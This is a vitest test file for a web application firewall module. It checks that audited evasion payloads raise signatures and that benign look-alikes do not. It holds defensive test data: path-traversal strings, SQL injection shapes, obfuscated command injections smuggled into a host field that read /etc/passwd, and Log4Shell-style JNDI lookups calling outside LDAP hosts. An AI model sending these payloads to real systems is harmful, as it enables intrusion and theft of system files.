// Signature-level evasions found by an audit of http_waf:
// requests the module parses whole but whose payload was written so
// that no signature matched. Each attack must raise its own signature; each
// near miss beside it is ordinary text the wider signatures must still let by.
import { beforeAll, describe, expect, it } from 'vitest';
import { SID, bytesOf, request, run, streamItem, waf } from './waf.js';

beforeAll(async () => { await waf(); }, 180_000);

let flow = 5000;

/** The signature ids raised by one request, sorted. */
async function sidsOf(text: string): Promise<number[]> {
  const r = run(await waf(), [streamItem(flow++, 0, bytesOf(text))]);
  return r.alerts.map((a) => a.sigId).sort();
}

const query = (path: string, name: string, v: string) => request('GET', `${path}?${name}=${encodeURIComponent(v)}`);
const form = (name: string, v: string) =>
  request('POST', '/submit', { 'Content-Type': 'application/x-www-form-urlencoded' }, `${name}=${encodeURIComponent(v)}`);
const json = (name: string, v: string) => request('POST', '/api', { 'Content-Type': 'application/json' }, JSON.stringify({ [name]: v }));

/** Each attack, in a query argument and in a form body, raises exactly `sid`. */
function attacks(sid: number, path: string, name: string, values: string[]): void {
  for (const v of values) {
    it(`catches ${JSON.stringify(v)}`, async () => {
      expect(await sidsOf(query(path, name, v))).toEqual([sid]);
      expect(await sidsOf(form(name, v))).toEqual([sid]);
    });
  }
}

/** Each value, in a query argument and in a form body, raises nothing. */
function benign(path: string, name: string, values: string[]): void {
  for (const v of values) {
    it(`lets ${JSON.stringify(v)} by`, async () => {
      expect(await sidsOf(query(path, name, v))).toEqual([]);
      expect(await sidsOf(form(name, v))).toEqual([]);
    });
  }
}

describe('http_waf LFI targets after path normalisation (F14)', () => {
  attacks(SID.TRAVERSAL, '/view', 'file', [
    '/etc/./passwd', '/etc//passwd', '//etc/.//./passwd', '\\etc\\.\\passwd', 'compress.zlib:///etc/passwd',
    'compress.zlib://index.php', 'compress.bzip2://x', 'file:/etc/passwd', 'FILE:/etc/hosts', 'php://filter/resource=index.php',
    'php:////filter/convert.base64-encode/resource=x', 'glob:///var/www/*',
  ]);
  benign('/view', 'file', [
    '/docs/./readme.md', '/images//logo.png', 'file: report.pdf', 'https://example.com/a//b', 'compress.zlib', './notes.txt',
  ]);
});

describe('http_waf SQL injection shapes (F13)', () => {
  attacks(SID.SQLI, '/item', 'id', [
    '(1)union(select(1),2,3)', '((1))union select 1,2', '(1)or(1=1)', '(1) or 1=1', '(1)and(select 1)', '(1)-sleep(5)',
    '(select(sleep(5)))', '(select 1 from dual)', '(select * from users)', '((select @@version))',
    '1-sleep(5)', '1 rlike sleep(5)', '1*benchmark(1000000,md5(1))', '~0 union select 1,2,3', '1 or true', '1 and false',
    '(1) or true', "x\\' or 1=1-- ", "x\\' union select password from users-- ", 'x\\" or 1=1-- ',
  ]);
  benign('/search', 'q', [
    '(555) 123-4567', '(select one)', '(Select a size)', '1 or 2', '1 or 2 bedrooms', '(1) or (2)', 'true or false',
    'it\\\'s fine', 'path C:\\\'s root', '5-10 years', '2 + 2', 'option (1) and more',
  ]);
});

describe('http_waf shell-obfuscated command injection (F15)', () => {
  attacks(SID.CMDI, '/ping', 'host', [
    '127.0.0.1;cat$IFS/etc/passwd', '127.0.0.1;cat$IFS$9/etc/passwd', '127.0.0.1;who$()ami', '127.0.0.1;who$@ami',
    '127.0.0.1;w``hoami', '127.0.0.1;/???/??t /???/p??s??', '127.0.0.1|/bin/c[a]t /etc/passwd', '127.0.0.1;{cat,/etc/passwd}',
    '127.0.0.1;{ls,-la}', '127.0.0.1;c$*at /etc/passwd',
  ]);
  benign('/search', 'q', [
    'a; /* comment */', 'cats; {cat,dog}', 'price US$5; cheap', 'what?; why??', 'total $IFSX; ok', 'see; {echo,hello}',
    'me; $@ home', 'a | ?? | b',
  ]);
});

describe('http_waf JNDI with Unicode case mapping (F11)', () => {
  // Java upper-cases "ı" (U+0131) to I and "ſ" (U+017F) to S, and lower-cases the Kelvin sign (U+212A) to k
  const header = (v: string) => request('GET', '/', { 'X-Api-Version': v });
  const dotless = '${jnd${upper:\u0131}:ldap://198.18.0.66/a}';
  it('catches ${upper:ı} in a query argument, a form, a JSON value and a UTF-8 header', async () => {
    expect(await sidsOf(query('/', 'q', dotless))).toEqual([SID.JNDI]);
    expect(await sidsOf(form('q', dotless))).toEqual([SID.JNDI]);
    expect(await sidsOf(json('q', dotless))).toEqual([SID.JNDI]);
    expect(await sidsOf(header(dotless))).toEqual([SID.JNDI]);
  });

  it('catches ${upper:\\u0131} written as a JSON escape', async () => {
    const body = '{"q":"${jnd${upper:\\u0131}:ldap://198.18.0.66/a}"}';
    expect(await sidsOf(request('POST', '/api', { 'Content-Type': 'application/json' }, body))).toEqual([SID.JNDI]);
  });

  it('catches a lookup spelled with upper: on a nested lookup and with a Kelvin sign under lower:', async () => {
    expect(await sidsOf(header('${${upper:j}${upper:n}${upper:d}${upper:\u0131}:ldap://x/a}'))).toEqual([SID.JNDI]);
    expect(await sidsOf(header('${${lower:J}ndi:ldap://x/${lower:\u212a}}'))).toEqual([SID.JNDI]);
  });

  it('does not map ı under lower: (Java keeps it), nor other characters', async () => {
    expect(await sidsOf(header('${jnd${lower:\u0131}:ldap://x/a}'))).toEqual([]);
    expect(await sidsOf(header('${jnd${upper:\u00ec}:ldap://x/a}'))).toEqual([]);
    expect(await sidsOf(header('${upper:\u0131stanbul}'))).toEqual([]);
  });
});

describe('http_waf JNDI resolution limits fail safe (F12)', () => {
  const header = (v: string) => request('GET', '/', { 'X-Api-Version': v });
  it('resolves a default whose unused variable name is longer than the 4 KiB buffer', async () => {
    expect(await sidsOf(header('${${env:' + 'A'.repeat(4200) + ':-j}ndi:ldap://198.51.100.9:1389/a}'))).toEqual([SID.JNDI]);
    expect(await sidsOf(header('${${env:' + 'A'.repeat(4200) + '${::-:}-j}ndi:ldap://x/a}'))).toEqual([SID.JNDI]);
  });

  it('reports lookups nested past the depth limit that still spell jndi', async () => {
    expect(await sidsOf(header('${' + '${::-'.repeat(17) + 'j' + '}'.repeat(17) + 'ndi:ldap://x/a}'))).toEqual([SID.JNDI]);
    expect(await sidsOf(header('${' + '${lower:'.repeat(40) + 'j' + '}'.repeat(40) + 'n${::-d}i:ldap://x/a}'))).toEqual([SID.JNDI]);
  });

  it('stays quiet on deep or long lookups that spell no jndi', async () => {
    expect(await sidsOf(header('${' + '${::-'.repeat(40) + 'x' + '}'.repeat(40) + 'y}'))).toEqual([]);
    expect(await sidsOf(header('${env:' + 'A'.repeat(5000) + ':-x} jn di'))).toEqual([]);
  });
});
